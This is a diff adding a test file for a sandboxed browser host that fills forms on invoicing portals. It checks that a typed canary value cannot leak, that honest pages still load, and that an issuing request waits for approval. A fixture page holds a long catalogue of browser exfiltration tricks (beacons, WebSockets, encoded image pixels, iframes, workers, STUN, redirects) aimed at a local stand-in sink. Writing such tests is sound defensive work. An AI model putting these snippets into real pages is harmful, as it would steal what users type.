@@ -1,0 +1,273 @@
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import {
+  find,
+  page,
+  startBrowserHost,
+  startSite,
+  until,
+  type BrowserHost,
+  type Pages,
+  type Site,
+} from './support.ts';
+
+const CANARY = 'CANA010101ABC';
+const encoded = [
+  CANARY,
+  CANARY.toLowerCase(),
+  Buffer.from(CANARY).toString('base64').slice(0, 12),
+  Buffer.from(CANARY).toString('hex'),
+];
+
+/**
+ * Everything a hostile script could do with what is typed, one after the other; none may stop the others. Pop-ups come
+ * first, while the browser still takes them for the user's wish.
+ */
+const attacks = (sink: string) => `
+  const sink = '${sink}', ws = sink.replace('http', 'ws');
+  const attempts = (v) => [
+    () => { window.open(sink + '/popup?' + v); },
+    () => { window.open('/redirect?to=' + encodeURIComponent(sink + '/popupredirect?' + v)); },
+    () => { const w = window.open('about:blank'); w?.document.write('<script>fetch("' + sink + '/popupscript?' + v + '", {mode:"no-cors"});new WebSocket("' + ws + '/popupsocket?' + v + '")<\\/script>'); },
+    () => fetch(sink + '/fetch', { method: 'POST', body: v, mode: 'no-cors' }).catch(() => {}),
+    () => fetch(sink + '/keepalive?' + v, { keepalive: true, mode: 'no-cors' }).catch(() => {}),
+    () => { const x = new XMLHttpRequest(); x.open('POST', sink + '/xhr'); x.send(v); },
+    () => navigator.sendBeacon(sink + '/beacon', v),
+    () => new WebSocket(ws + '/socket?' + v),
+    () => new EventSource(sink + '/events?' + v),
+    () => { new Image().src = sink + '/img?v=' + v; },
+    () => { new Image().src = sink + '/img64/' + btoa(v); },
+    () => { new Image().src = sink + '/img64b/' + btoa('x' + v).replace(/=/g, ''); },
+    () => { new Image().src = sink + '/imghex/' + [...v].map((c) => c.charCodeAt(0).toString(16)).join(''); },
+    () => { new Image().src = sink + '/imgpct/' + [...v].map((c) => '%' + c.charCodeAt(0).toString(16)).join(''); },
+    () => { const s = document.createElement('script'); s.src = sink + '/script.js?' + v.toLowerCase(); document.head.append(s); },
+    () => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = sink + '/style.css?' + v; document.head.append(l); },
+    () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = sink + '/prefetch?' + v; document.head.append(l); },
+    () => { const s = document.createElement('style'); s.textContent = '@font-face{font-family:z;src:url(' + sink + '/font?' + v + ')} body{font-family:z;background:url(' + sink + '/bg?' + v + ')}'; document.head.append(s); },
+    () => { const f = document.createElement('iframe'); f.src = sink + '/iframe?' + v; document.body.append(f); },
+    () => { const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch(sink + '/blankframe', { method: 'POST', body: v, mode: 'no-cors' }).catch(() => {}); new f.contentWindow.WebSocket(ws + '/blanksocket?' + v); },
+    () => { const f = document.createElement('iframe'); f.srcdoc = '<script>new WebSocket("' + ws + '/srcdocsocket?' + v + '");navigator.sendBeacon("' + sink + '/srcdocbeacon", "' + v + '")<\\/script>'; document.body.append(f); },
+    () => { const f = document.createElement('iframe'); f.src = 'data:text/html,<script>new WebSocket("' + ws + '/datasocket?' + v + '");fetch("' + sink + '/datafetch?' + v + '")<\\/script>'; document.body.append(f); },
+    () => { const o = document.createElement('object'); o.data = sink + '/object?' + v; document.body.append(o); },
+    () => { const a = document.createElement('a'); a.href = '#'; a.ping = sink + '/ping?' + v; document.body.append(a); a.click(); },
+    () => { const code = 'fetch("' + sink + '/blobworker?' + v + '").catch(()=>{});new WebSocket("' + ws + '/blobworkersocket?' + v + '")'; new Worker(URL.createObjectURL(new Blob([code]))); },
+    () => { const w = new Worker('/worker.js'); w.postMessage({ sink, ws, v }); },
+    () => { const w = new SharedWorker('/shared.js'); w.port.postMessage({ sink, ws, v }); },
+    () => navigator.serviceWorker?.register('/sw.js').then((r) => (r.installing ?? r.active).postMessage({ sink, v })).catch(() => {}),
+    () => { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + v + '.' + location.hostname }] }); },
+    () => { const f = document.createElement('form'); f.action = sink + '/form'; f.method = 'post'; f.target = 'x'; f.innerHTML = '<input name=v value=' + v + '>'; document.body.append(f); const i = document.createElement('iframe'); i.name = 'x'; document.body.append(i); f.submit(); },
+    () => fetch('/redirect?to=' + encodeURIComponent(sink + '/fetchredirect?' + v), { mode: 'no-cors' }).catch(() => {}),
+    () => { new Image().src = '/redirect?to=' + encodeURIComponent(sink + '/imgredirect?' + v); },
+    () => { history.replaceState(0, '', '?rfc=' + v); const i = new Image(); i.referrerPolicy = 'unsafe-url'; i.src = sink + '/referrer'; },
+    () => { location.href = sink + '/navigate?' + v; },
+  ];
+  const attack = async (v) => { for (const attempt of attempts(v)) { try { attempt(); } catch {} await new Promise((r) => setTimeout(r, 15)); } };
+`;
+
+const workerCode = `onmessage = (e) => { const { sink, ws, v } = e.data; fetch(sink + '/worker?' + v, { mode: 'no-cors' }).catch(() => {}); new WebSocket(ws + '/workersocket?' + v); };`;
+const sharedCode = `onconnect = (c) => { c.ports[0].onmessage = (e) => { const { sink, ws, v } = e.data; fetch(sink + '/shared?' + v, { mode: 'no-cors' }).catch(() => {}); new WebSocket(ws + '/sharedsocket?' + v); }; };`;
+const script = (body: string) => ({ body, headers: { 'content-type': 'text/javascript' } });
+
+let host: BrowserHost;
+let sink: Site;
+let site: Site;
+
+beforeAll(async () => {
+  host = await startBrowserHost();
+  sink = await startSite({
+    '/logo.png': { body: 'png', headers: { 'content-type': 'image/png' } },
+    '/lib.js': script('window.lib = 1'),
+    '/api': {
+      body: '{}',
+      headers: { 'access-control-allow-origin': '*', 'content-type': 'application/json' },
+    },
+  });
+  const pages: Pages = {
+    '/hostile': () =>
+      page(
+        `<label>RFC <input id="r"></label><script>${attacks(sink.origin)} r.addEventListener('blur', async () => { await attack(r.value); fetch('/hecho'); });</script>`,
+      ),
+    '/redirect': (request) => ({
+      status: 302,
+      headers: { location: new URL(request.url, 'http://x').searchParams.get('to') ?? '/' },
+    }),
+    '/worker.js': script(workerCode),
+    '/shared.js': script(sharedCode),
+    '/sw.js': script('onmessage = (e) => fetch(e.data.sink + "/sw?" + e.data.v)'),
+    '/innocent': () =>
+      page(`<img src="${sink.origin}/logo.png?v=3"><script src="${sink.origin}/lib.js"></script><script>fetch('${sink.origin}/api').then(() => { a.textContent = 'antes' })</script>
+      <p id="a"></p><label>RFC <input id="r"></label><button onclick="fetch('${sink.origin}/api', { method: 'POST', body: r.value }).then(() => { o.textContent = 'ok' }, () => { o.textContent = 'no' })">Consulta</button><output id="o"></output>`),
+    '/late': () =>
+      page(
+        `<label>RFC <input id="r"></label><button onclick="fetch('${sink.origin}/api').then(() => { o.textContent = 'ok' }, () => { o.textContent = 'no' })">Consulta</button><output id="o"></output>`,
+      ),
+    '/leads-away': () => ({ status: 302, headers: { location: `${sink.origin}/landing` } }),
+    '/own-socket': () =>
+      page(
+        `<script>const s = new WebSocket('ws://' + location.host + '/socket'); s.onerror = () => { document.body.append('cerrado') }</script>`,
+      ),
+    '/cookies': {
+      body: page('<script>document.write(document.cookie)</script>'),
+      headers: { 'set-cookie': ['uno=1', 'dos=2'] },
+    },
+    '/issue': page(`<label>RFC <input id="r"></label><label>Folio <input id="f"></label>
+      <button onclick="fetch('/timbrar?f=' + f.value, { method: 'POST' }).then((x) => x.text()).then((t) => { o.textContent = t }, () => { o.textContent = 'detenido' })">Generar</button><output id="o"></output>`),
+    '/timbrar': 'timbrado',
+  };
+  site = await startSite(pages);
+});
+afterEach(async () => {
+  await host.endSessions();
+  sink.received.length = 0;
+  site.received.length = 0;
+});
+afterAll(async () => {
+  await host.stop();
+  await site.stop();
+  await sink.stop();
+});
+
+/** With private hosts allowed, the sink is for the guard a public host like any other. */
+const asPublic = { allowedPrivateHosts: ['127.0.0.1', 'localhost'], values: [CANARY] };
+const rfc = { source: 'profile.rfc', text: CANARY };
+
+async function at(path: string, options: Parameters<BrowserHost['driver']>[1] = asPublic) {
+  const driver = await host.driver(site.origin, options);
+  await driver.open(site.origin + path);
+  const seen = await driver.snapshot();
+  const id = (role: Parameters<typeof find>[1], words: string) => find(seen, role, words).id;
+  return { driver, seen, id };
+}
+
+describe('a hostile portal', () => {
+  it('gets no typed value out to another host, by any road', async () => {
+    const { driver, id } = await at('/hostile');
+    await driver.perform({ kind: 'fill', target: id('textbox', 'RFC'), value: rfc });
+    await until(() => site.received.some((request) => request.url === '/hecho'));
+    await until(
+      () => driver.blocked.filter((refusal) => refusal.reason === 'foreign_navigation').length >= 3,
+    );
+    await driver.waitForChange(500);
+
+    const leaks = sink.received.filter((request) => {
+      const all = JSON.stringify([request.url, request.body, request.headers]);
+      return request.method === 'UPGRADE' || encoded.some((form) => all.includes(form));
+    });
+    expect(leaks.map((request) => `${request.method} ${request.url}`)).toEqual([]);
+    expect(sink.received.filter((request) => request.method !== 'GET')).toEqual([]);
+    expect(driver.blocked.length).toBeGreaterThan(15);
+    expect(JSON.stringify(driver.blocked)).not.toContain(CANARY);
+    const { tabs } = await driver.snapshot();
+    expect(
+      tabs
+        .map((tab) => new URL(tab.url).origin)
+        .filter((origin) => origin !== site.origin && origin !== 'null'),
+    ).toEqual([]);
+  });
+
+  it('does not lead the first page away', async () => {
+    const driver = await host.driver(site.origin, asPublic);
+    expect(await driver.open(`${site.origin}/leads-away`)).toMatchObject({
+      ok: false,
+      reason: 'navigation_blocked',
+    });
+    expect(sink.received).toEqual([]);
+    expect(driver.blocked).toEqual([{ url: sink.origin, reason: 'foreign_navigation', topLevel: true }]);
+  });
+});
+
+describe('an honest portal', () => {
+  it('gets its pictures, scripts and the interface it called before anything was typed, also afterwards', async () => {
+    const { driver, seen, id } = await at('/innocent');
+    expect(seen.texts).toContainEqual({ frameId: 'f0', kind: 'paragraph', text: 'antes' });
+    await driver.perform({ kind: 'fill', target: id('textbox', 'RFC'), value: rfc });
+    await driver.perform({ kind: 'click', target: id('button', 'Consulta') });
+    expect((await driver.snapshot()).texts).toContainEqual({ frameId: 'f0', kind: 'result', text: 'ok' });
+    expect(sink.received.map((request) => `${request.method} ${request.url}`).sort()).toEqual([
+      'GET /api',
+      'GET /lib.js',
+      'GET /logo.png?v=3',
+      'POST /api',
+    ]);
+    expect(driver.blocked).toEqual([]);
+  });
+
+  it('cannot call a new host once a value was typed', async () => {
+    const { driver, id } = await at('/late');
+    await driver.perform({ kind: 'fill', target: id('textbox', 'RFC'), value: rfc });
+    await driver.perform({ kind: 'click', target: id('button', 'Consulta') });
+    expect((await driver.snapshot()).texts).toContainEqual({ frameId: 'f0', kind: 'result', text: 'no' });
+    expect(sink.received).toEqual([]);
+  });
+
+  it('keeps its cookies and its own WebSocket under the added policy', async () => {
+    const { driver, seen } = await at('/cookies');
+    expect(seen.texts.map((text) => text.text)).toContain('uno=1; dos=2');
+    await driver.open(`${site.origin}/own-socket`);
+    await until(() => site.received.some((request) => request.method === 'UPGRADE'));
+  });
+
+  it('loads nothing from private addresses that are not allowed', async () => {
+    const { driver } = await at('/innocent', {
+      allowedPrivateHosts: [new URL(site.origin).host],
+      values: [],
+    });
+    expect(sink.received).toEqual([]);
+    expect(new Set(driver.blocked.map((refusal) => refusal.reason))).toEqual(new Set(['private_address']));
+  });
+});
+
+describe('a request that may issue', () => {
+  const fillBoth = async (
+    driver: Awaited<ReturnType<typeof at>>['driver'],
+    id: Awaited<ReturnType<typeof at>>['id'],
+  ) => {
+    await driver.perform({
+      kind: 'fill',
+      target: id('textbox', 'Folio'),
+      value: { source: 'ticket.folio', text: 'A-1' },
+    });
+    await driver.perform({ kind: 'fill', target: id('textbox', 'RFC'), value: rfc });
+  };
+
+  it('waits for the answer of whoever marks the ticket, and goes on when allowed', async () => {
+    const asked: string[] = [];
+    const onHeldRequest = async ({ method, path, host }: { method: string; path: string; host: string }) => {
+      asked.push(`${method} ${host}${path}`);
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      expect(site.received.some((request) => request.url.startsWith('/timbrar'))).toBe(false);
+      return 'allow' as const;
+    };
+    const { driver, id } = await at('/issue', { ...asPublic, onHeldRequest });
+    await driver.perform({ kind: 'fill', target: id('textbox', 'RFC'), value: rfc });
+    await driver.perform({ kind: 'click', target: id('button', 'Generar') });
+    expect(asked).toEqual([]);
+    site.received.length = 0;
+    await fillBoth(driver, id);
+    expect(await driver.perform({ kind: 'click', target: id('button', 'Generar') })).toMatchObject({
+      ok: true,
+    });
+    expect(asked).toEqual([`POST ${new URL(site.origin).host}/timbrar`]);
+    expect(site.received.filter((request) => request.url === '/timbrar?f=A-1')).toHaveLength(1);
+    expect((await driver.snapshot()).texts).toContainEqual({
+      frameId: 'f0',
+      kind: 'result',
+      text: 'timbrado',
+    });
+  });
+
+  it.each(['refuse', 'throw'] as const)('never leaves on %s', async (answer) => {
+    const onHeldRequest = async () => {
+      if (answer === 'throw') throw new Error('the gate is broken');
+      return answer;
+    };
+    const { driver, id } = await at('/issue', { ...asPublic, onHeldRequest });
+    await fillBoth(driver, id);
+    await driver.perform({ kind: 'click', target: id('button', 'Generar') });
+    expect((await driver.snapshot()).texts).toContainEqual({
+      frameId: 'f0',
+      kind: 'result',
+      text: 'detenido',
+    });
+    expect(site.received.some((request) => request.url.startsWith('/timbrar'))).toBe(false);
+  });
+});
